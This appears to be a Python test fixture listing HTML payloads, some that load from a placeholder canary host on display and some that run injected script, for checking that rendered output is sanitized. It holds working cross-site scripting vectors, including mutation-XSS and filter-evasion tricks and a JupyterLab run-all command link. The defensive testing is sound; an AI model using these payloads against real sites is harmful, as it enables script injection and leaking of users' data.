"""Displays that try to act: HTML of many spellings, and code that shows it."""

from __future__ import annotations

ADDRESS = "http://canary.example"
"""Where the displays want to load from; a test in the browser puts its own server here."""

LOADING = {
    "picture": '<img src="{a}/a.png">',
    "picture by srcset": '<img srcset="{a}/a.png 2x">',
    "picture without scheme": '<img src="//canary.example/a.png">',
    "picture in capitals": "<IMG SRC = {a}/a.png >",
    "background": '<table background="{a}/a.png"><tr><td>cell</td></tr></table>',
    "inline style": '<p style="background:url({a}/a.png)">text</p>',
    "inline style, escaped": '<p style="background:\\75\\72\\6c({a}/a.png)">text</p>',
    "image set": "<p style=\"background:image-set('{a}/a.png' 1x)\">text</p>",
    "style sheet": "<style>p {{ background: url('{a}/a.png') }}</style><p>text</p>",
    "import": '<style>@import "{a}/a.css";</style><p>text</p>',
    "import by url": "<style>@import url({a}/a.css);</style><p>text</p>",
    "font": "<style>@font-face {{ font-family: f; src: url({a}/f.woff) }}</style><p>text</p>",
    "variable": "<style>p {{ --u: url({a}/a.png); background: var(--u) }}</style><p>text</p>",
    "in media": "<style>@media all {{ p {{ background: url({a}/a.png) }} }}</style><p>text</p>",
    "link": '<link rel="stylesheet" href="{a}/a.css">',
    "preload": '<link rel="prefetch" href="{a}/a.css">',
    "poster": '<video poster="{a}/a.png" src="{a}/a.mp4" autoplay></video>',
    "sound": '<audio src="{a}/a.mp3" autoplay></audio>',
    "source": '<video><source src="{a}/a.mp4"></video>',
    "object": '<object data="{a}/a.svg"></object>',
    "embed": '<embed src="{a}/a.svg">',
    "frame": '<iframe src="{a}/a.html"></iframe>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url={a}/a.html">',
    "base": '<base href="{a}/"><img src="a.png">',
    "drawing": '<svg><image href="{a}/a.png" width="9" height="9"/></svg>',
    "drawing by xlink": '<svg><image xlink:href="{a}/a.png" width="9" height="9"/></svg>',
    "use": '<svg><use href="{a}/a.svg#x"/></svg>',
    "filter": '<svg><rect width="9" height="9" fill="url({a}/a.svg#x)"/></svg>',
    "script that fetches": "<script>fetch('{a}/a', {{mode: 'no-cors'}})</script>",
    "script that draws": "<script>new Image().src = '{a}/a.png'</script>",
    "script that leaves": "<script>location = '{a}/a.html'</script>",
    "script that leaves above": "<script>parent.location = '{a}/a.html'</script>",
    "script that opens": "<script>open('{a}/a.html')</script>",
    "script that sends": "<form action='{a}/a' id='f'></form><script>f.submit()</script>",
    "script from there": '<script src="{a}/a.js"></script>',
    "module from there": '<script type="module">import "{a}/a.js"</script>',
    "worker": ("<script>new Worker(URL.createObjectURL(new Blob([\"fetch('{a}/a')\"])))</script>"),
    "frame by script": (
        "<script>const f = document.createElement('iframe'); f.src = '{a}/a.html';"
        "document.body.append(f)</script>"
    ),
}
"""HTML that loads something as soon as it is shown; `{a}` is the address."""

ACTING = {
    "script": "<script>{act}</script>",
    "script in capitals": "<SCRIPT >{act}</SCRIPT >",
    "script in a table": "<table><tr><td><script>{act}</script></td></tr></table>",
    "module": '<script type="module">{act}</script>',
    "handler": '<img src="data:," onerror="{act}">',
    "handler without blanks": '<img/src="data:,"/onerror={act}>',
    "handler on load": '<svg onload="{act}"></svg>',
    "handler on a style": '<style onload="{act}">p {{ color: red }}</style>',
    "handler on details": '<details open ontoggle="{act}">text</details>',
    "handler on focus": '<input autofocus onfocus="{act}">',
    "handler of an animation": (
        "<style>@keyframes x {{}}</style><p style='animation: x 1s' onanimationstart=\"{act}\">"
    ),
    "script in a drawing": "<svg><script>{act}</script></svg>",
    "foreign object": '<svg><foreignObject><img src=data:, onerror="{act}"></foreignObject>',
    "animated link": (
        '<svg><a><animate attributeName="href" values="javascript:{act}"/>'
        '<text y="20">click</text></a></svg>'
    ),
    "link": '<a href="javascript:{act}">click</a>',
    "link with a tab": '<a href="java&#9;script:{act}">click</a>',
    "link to data": '<a href="data:text/html,<script>{act}</script>">click</a>',
    "form": '<form action="javascript:{act}"><input type="submit" value="click"></form>',
    "button of a form": '<form><button formaction="javascript:{act}">click</button></form>',
    "frame": '<iframe src="javascript:{act}"></iframe>',
    "frame with a document": '<iframe srcdoc="<script>{act}</script>"></iframe>',
    "object": '<object data="data:text/html,<script>{act}</script>"></object>',
    "end of a style": "<style></style><script>{act}</script></style>",
    "style in an attribute": (
        '<p title="<style>"></p><p title="</style><img src=data:, onerror={act}>"></p>'
    ),
    "mathematics": (
        "<math><mtext><table><mglyph><style><!--</style>"
        '<img title="--&gt;&lt;img src=data:, onerror={act}&gt;">'
    ),
    "namespaces": ('<svg></p><style><a id="</style><img src=data:, onerror={act}>"></svg>'),
    "template": "<template><script>{act}</script></template><noscript><p title='</noscript>'>",
    "command of JupyterLab": '<a data-commandlinker-command="runmenu:run-all">click</a>',
    "comment": "<!--><img src=data:, onerror={act}>-->",
    "unfinished": "<img src=data:, onerror={act} ",
    "null": "<scr\0ipt>{act}</scr\0ipt>",
}
"""HTML that runs `{act}` when it is shown or clicked."""


def loading(address: str = ADDRESS) -> dict[str, str]:
    """The displays that load something from an address."""
    host = address.partition("//")[2]
    return {
        name: markup.format(a=address).replace("canary.example", host)
        for name, markup in LOADING.items()
    }


def acting(script: str) -> dict[str, str]:
    """The displays that run a script."""
    return {name: markup.format(act=script) for name, markup in ACTING.items()}
